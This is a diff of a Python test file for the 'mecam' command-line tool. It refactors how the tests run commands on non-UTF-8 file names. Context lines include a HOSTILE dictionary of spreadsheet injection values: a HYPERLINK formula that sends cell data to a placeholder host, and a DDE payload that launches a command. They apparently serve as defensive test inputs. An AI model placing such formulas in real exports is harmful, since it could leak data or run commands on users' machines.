@@ -4,18 +4,16 @@ import csv
 import io
 import os
 import shutil
-import subprocess
-import sys
 from pathlib import Path
 
 import pytest
 
 from mecam.benchmark.render import table
 from mecam.progress import Event
+from tests.processes import run_each
 from tests.report.runs import write_run
 from tests.serving.runs import TINY, write_images
 
-MECAM = [sys.executable, "-m", "mecam.cli"]
 HOSTILE = {
     "formula": '=HYPERLINK("http://x/?"&A1)',
     "minus": "-2+3+cmd|' /C calc'!A0",
@@ -96,14 +94,6 @@ def test_terminals_obey_no_name(name: str, tmp_path: Path) -> None:
         assert not {"\x7f", "\x9b", "\u202e"} & set(text)
 
 
-def mecam(*words: object, cwd: Path) -> subprocess.CompletedProcess[bytes]:
-    environment = {**os.environ, "PYTHONUTF8": "1", "OMP_NUM_THREADS": "1", "MECAM_CACHE": str(cwd / "cache")}
-    return subprocess.run(
-        [*MECAM, *(word if isinstance(word, bytes) else str(word).encode(errors="surrogateescape") for word in words)],
-        cwd=cwd, env=environment, capture_output=True, check=False, timeout=180,
-    )  # fmt: skip
-
-
 @pytest.fixture(scope="module")
 def latin(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """A folder whose domains, classes and images have names in Latin-1."""
@@ -130,7 +120,7 @@ def test_names_that_are_not_utf8(latin: Path) -> None:
     """Every command takes them, and no one ends in a traceback."""
     image = os.fsdecode(b"caf\xe9/data/\xe9tude/blue/\xff.jpg")
     train = ("--data", DATA, "--target", TARGET, *TINY)
-    for words in (
+    commands: list[tuple[object, ...]] = [
         ("data", "check", DATA),
         ("data", "pack", DATA, "--out", "store"),
         ("train", *train, "--out", "run"),
@@ -148,6 +138,6 @@ def test_names_that_are_not_utf8(latin: Path) -> None:
         ("landscape", "run", "--steps", 3, "--images", 4, "--out", "landscape"),
         ("rerun", "run"),
         ("verify", "run", "bench"),
-    ):
-        done = mecam(*words, cwd=latin)
-        assert (done.returncode, b"Traceback" in done.stderr) == (0, False), (words, done.stderr.decode("latin-1"))
+    ]
+    for words, done in zip(commands, run_each(*commands, cwd=latin, PYTHONUTF8="1"), strict=True):
+        assert done.code == 0, (words, done.err)
